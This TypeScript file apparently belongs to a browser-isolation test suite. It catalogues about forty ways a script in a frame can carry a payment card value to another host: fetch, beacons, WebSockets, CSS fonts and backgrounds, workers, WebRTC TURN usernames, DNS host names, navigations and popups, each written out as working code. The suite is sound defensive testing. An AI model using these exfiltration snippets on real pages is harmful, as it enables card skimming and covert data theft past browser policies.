/**
 * Every way that a browser has to carry something to another host. On the control each carries the
 * card; in the frame, which has none, the words `empty-handed`, so that the way itself is tried.
 */
import type { CodeAttack } from '../attack.ts';

const channel = (
  id: string,
  tries: string,
  /** `card` is in scope. */
  code: string,
  rest: Partial<CodeAttack> = {},
): CodeAttack => ({
  kind: 'code',
  family: 'channel',
  held: 'host',
  succeeds: 'card',
  id: `by-${id}`,
  tries: `carries the card away by ${tries}`,
  code: `whenCard((card) => {${code}});`,
  ...rest,
});
const alone = { alone: true } as const;
/** Of the frame's own element, made by the page's or the frame's document. */
const link = (properties: string) => `add('link', ${properties}, document.head)`;

export const CHANNELS: readonly CodeAttack[] = [
  channel('fetch', 'fetch', `send(card)`),
  channel(
    'xhr',
    'XMLHttpRequest',
    `const x = new XMLHttpRequest(); x.open('POST', to('?xhr')); x.send(card);`,
  ),
  channel('image', 'the address of an image', `new Image().src = to('/pixel.gif?' + btoa(card));`),
  channel('beacon', 'a beacon', `navigator.sendBeacon(to('?beacon'), card);`),
  channel(
    'websocket',
    'a WebSocket',
    `const s = new WebSocket(to('?socket').replace('http', 'ws')); s.onopen = () => s.send(card);`,
  ),
  channel('eventsource', 'an event stream', `new EventSource(to('/events?' + card));`),
  channel(
    'script',
    'the address of a script',
    `add('script', { src: to('/s.js?' + card) }, document.head);`,
  ),
  channel('import', 'a dynamic import', `import(to('/m.js?' + card)).catch(() => {});`),
  channel(
    'stylesheet',
    'the address of a style sheet',
    link(`{ rel: 'stylesheet', href: to('/s.css?' + card) }`),
  ),
  channel(
    'css-import',
    'an @import in a style element',
    `add('style', { textContent: '@import "' + to('/i.css?' + card) + '";' }, document.head);`,
  ),
  channel(
    'css-background',
    'a background picture in a style sheet',
    `add('style', { textContent: 'body::after{content:"";background:url("' + to('/b.png?' + card) + '")}' }, document.head); const sheet = new CSSStyleSheet(); sheet.replaceSync('body::before{content:"";background:url("' + to('/c.png?' + card) + '")}'); document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];`,
  ),
  channel(
    'css-font',
    'a font',
    `const face = new FontFace('stolen', 'url("' + to('/f.woff2?' + card) + '")'); document.fonts.add(face); face.load().catch(() => {});`,
  ),
  channel(
    'svg',
    'a picture within an SVG',
    `document.body.insertAdjacentHTML('beforeend', '<svg width="1" height="1"><image href="' + to('/v.png?' + card) + '" width="1" height="1"/></svg>');`,
  ),
  channel('media', 'a video', `add('video', { src: to('/v.mp4?' + card), preload: 'auto' });`),
  channel('object', 'an object element', `add('object', { data: to('/o?' + card) });`),
  channel(
    'preload',
    'a preload hint',
    link(`{ rel: 'preload', as: 'image', href: to('/p.png?' + card) }`),
  ),
  channel(
    'modulepreload',
    'a module preload hint',
    link(`{ rel: 'modulepreload', href: to('/p.js?' + card) }`),
    { only: ['chromium', 'webkit'] },
  ),
  channel('prefetch', 'a prefetch hint', link(`{ rel: 'prefetch', href: to('/p?' + card) }`), {
    only: ['chromium', 'firefox'],
  }),
  channel(
    'speculation',
    'speculation rules',
    `add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [to('/r?' + card)], eagerness: 'immediate' }] }) }, document.head);`,
    { only: ['chromium'] },
  ),
  channel(
    'host-name',
    'the name of a host, which name servers and everybody on the way see, whatever is encrypted',
    `new Image().src = 'https://x-' + RUN + '-' + id + '--' + card + '.localhost:' + TLS;`,
    { only: ['chromium', 'firefox'] },
  ),
  channel(
    'preconnect',
    'a connection made ahead of time, to a host of such a name',
    link(
      `{ rel: 'preconnect', href: 'https://x-' + RUN + '-' + id + '--' + card + '.localhost:' + TLS }`,
    ),
    {
      noControl:
        'Chromium under remote control makes no connections ahead of time; `by-host-name` shows the name on the wire',
      known:
        'Firefox holds no policy against a connection made ahead of time, which shows the name of a host; a hostile frame has no card to put into it',
    },
  ),
  channel(
    'dns-prefetch',
    'a name to look up',
    link(`{ rel: 'dns-prefetch', href: '//x-' + RUN + '-' + id + '--' + card + '.localhost' }`),
    {
      noControl:
        'a look-up is seen by the name server alone, and this drill has none; `by-host-name` shows the name on the wire',
    },
  ),
  channel('frame', 'the address of a nested frame', `add('iframe', { src: to('/f?' + card) });`),
  channel(
    'data-frame',
    'a nested frame with a document of its own in a data: address',
    `add('iframe', { src: 'data:text/html,' + encodeURIComponent('<img src="' + to('/d?' + card) + '">') });`,
  ),
  channel(
    'srcdoc',
    'a nested frame with its document in an attribute',
    `add('iframe', { srcdoc: '<img src="' + to('/d?' + card) + '">' });`,
  ),
  channel(
    'blob-frame',
    'a nested frame with a document in a blob',
    `add('iframe', { src: URL.createObjectURL(new Blob(['<img src="' + to('/b?' + card) + '">'], { type: 'text/html' })) });`,
  ),
  channel(
    'worker',
    'a worker',
    `new Worker(URL.createObjectURL(new Blob(['fetch("' + to('?worker') + '", { method: "POST", mode: "no-cors", body: "' + card + '" })'])));`,
  ),
  channel(
    'shared-worker',
    'a shared worker',
    `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + to('?shared') + '", { method: "POST", mode: "no-cors", body: "' + card + '" })'])));`,
  ),
  channel(
    'service-worker',
    'a service worker',
    `navigator.serviceWorker.register(to('/sw.js?' + card)).catch(() => {});`,
    {
      noControl:
        "a service worker's script must come from the page's own origin, wherever the tag is",
    },
  ),
  channel(
    'webrtc',
    'the user name of a TURN server',
    `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:' + UDP + '?transport=udp', username: 'x-' + RUN + '-' + id + '--' + card, credential: 'x' }] }); pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer));`,
    {
      ...alone,
      known:
        'no browser lets a page forbid WebRTC to a frame whose own script is hostile; that frame has no card to send',
      only: ['chromium'],
    },
  ),
  channel(
    'form',
    'a form that sends itself',
    `const frame = add('iframe', { name: 'sink' + id }); const form = add('form', { method: 'post', action: to('/form'), target: frame.name }); add('input', { name: 'c', value: card }, form); form.submit();`,
  ),
  channel(
    'location',
    'going to another address',
    `location.href = to('/location?' + card);`,
    alone,
  ),
  channel(
    'refresh',
    'a meta refresh',
    `add('meta', { httpEquiv: 'refresh', content: '0;url=' + to('/refresh?' + card) }, document.head);`,
    alone,
  ),
  channel(
    'anchor',
    'a link that presses itself',
    `add('a', { href: to('/anchor?' + card) }).click();`,
    alone,
  ),
  channel(
    'ping',
    'the ping of a link',
    `add('a', { href: '#there', ping: to('/ping?' + card) }).click();`,
    { ...alone, only: ['chromium', 'webkit'] },
  ),
  channel(
    'download',
    'a download',
    `add('a', { href: to('/download?' + card), download: 'a.txt' }).click();`,
    alone,
  ),
  channel(
    'blob-navigation',
    'going to a document of its own making',
    `location.href = URL.createObjectURL(new Blob(['<img src="' + to('/blob?' + card) + '">'], { type: 'text/html' }));`,
    alone,
  ),
  channel(
    'popup',
    'the address of a new window',
    `onGesture(() => open(to('/popup?' + card))); if (page()) open(to('/popup?' + card));`,
    { ...alone, gesture: true },
  ),
  channel(
    'named-window',
    'a link into a window of its own',
    `onGesture(() => add('a', { href: to('/named?' + card), target: '_blank' }).click()); if (page()) add('a', { href: to('/named?' + card), target: '_blank' }).click();`,
    { ...alone, gesture: true },
  ),
  channel(
    'top',
    'moving the page itself',
    `try { top.location.href = to('/top?' + card); } catch {} try { parent.parent.location.replace(to('/top?' + card)); } catch {}`,
    alone,
  ),
  channel(
    'own-server',
    "the chat's own server, where the frame may write",
    `fetch(VENDOR + '/x/' + RUN + '/' + id, { method: 'POST', mode: 'no-cors', body: card }).catch(() => {});`,
  ),
];
